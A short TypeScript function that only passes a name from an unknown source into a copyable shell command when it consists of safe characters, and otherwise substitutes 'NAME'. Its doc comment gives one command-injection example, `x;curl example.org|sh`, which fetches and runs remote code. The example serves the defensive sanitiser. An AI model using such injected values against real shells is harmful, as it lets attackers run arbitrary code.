/**
 * Returns a name of unknown origin as a word of a command that somebody may copy into a shell. `NAME` for any text that a
 * shell could read as more than one word, such as the image `x;curl example.org|sh`.
 */
export function commandWord(name: string): string {
  return /^[\w@%+=:,./-]{1,500}$/.test(name) && !name.startsWith('-') ? name : 'NAME'
}
